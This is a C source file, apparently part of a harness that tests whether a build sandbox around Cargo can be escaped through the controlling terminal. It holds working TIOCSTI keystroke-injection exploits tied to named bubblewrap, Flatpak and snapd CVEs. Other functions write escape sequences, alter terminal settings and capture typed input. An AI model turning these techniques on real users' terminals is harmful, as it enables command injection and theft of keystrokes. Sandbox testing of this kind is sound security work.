/* Reaches the terminal in which Cargo was started. */

#include "attack.h"
#include <termios.h>

static int terminal(void) {
    return open("/dev/tty", O_RDWR | O_NOCTTY);
}

static const char *path_of_terminal(void) {
    char path[256] = "";
    int file = open(text("%s/terminal", told("world")), O_RDONLY);
    if (read(file, path, sizeof path - 1) < 0)
        perror("terminal");
    return strdup(path);
}

static void type(int file, unsigned long request) {
    const char *line = text("owned by %s\n", name);
    for (const char *letter = line; *letter; letter++)
        syscall(SYS_ioctl, file, request, letter);
}

/* CVE-2017-5226, against bubblewrap. */
static void type_a_command(void) {
    type(terminal(), TIOCSTI);
}

/* CVE-2019-10063 and CVE-2019-7303, against Flatpak and snapd: the kernel drops the high bits. */
static void type_a_command_with_high_bits(void) {
    type(terminal(), TIOCSTI | 1UL << 32);
}

static void type_a_command_by_path(void) {
    type(open(path_of_terminal(), O_RDWR), TIOCSTI);
}

static void type_a_command_by_an_output(void) {
    for (int file = 0; file < 64; file++)
        if (isatty(file))
            return type(file, TIOCSTI);
    type(terminal(), TIOCSTI);
}

static void display_an_escape_sequence(void) {
    mark(terminal());
}

static void display_by_path(void) {
    mark(open(path_of_terminal(), O_WRONLY | O_NOCTTY));
}

/* The parent is still in the terminal's session. */
static void display_by_the_parents_descriptor(void) {
    for (int file = 0; file < 32; file++) {
        char target[PATH_MAX];
        const char *link = text("/proc/%d/fd/%d", getppid(), file);
        ssize_t length = readlink(link, target, sizeof target - 1);
        if (length > 0 && memcmp(target, "/dev/p", 6) == 0)
            return mark(open(link, O_WRONLY | O_NOCTTY));
    }
    mark(terminal());
}

static void change_the_terminals_size(void) {
    ioctl(terminal(), TIOCSWINSZ, &(struct winsize){24, 666, 0, 0});
}

static void change_the_terminals_settings(void) {
    struct termios settings;
    int file = terminal();
    if (tcgetattr(file, &settings) == 0) {
        settings.c_lflag |= TOSTOP;
        tcsetattr(file, TCSANOW, &settings);
    }
}

static void read_what_is_typed(void) {
    char line[256];
    ssize_t length = read(terminal(), line, sizeof line);
    if (length > 0)
        loot(line, (size_t)length);
}

const struct attack TERMINAL[] = {
    ATTACK(type_a_command),
    ATTACK(type_a_command_with_high_bits),
    ATTACK(type_a_command_by_path),
    ATTACK(type_a_command_by_an_output),
    ATTACK(display_an_escape_sequence),
    ATTACK(display_by_path),
    ATTACK(display_by_the_parents_descriptor),
    ATTACK(change_the_terminals_size),
    ATTACK(change_the_terminals_settings),
    ATTACK(read_what_is_typed),
    {0},
};
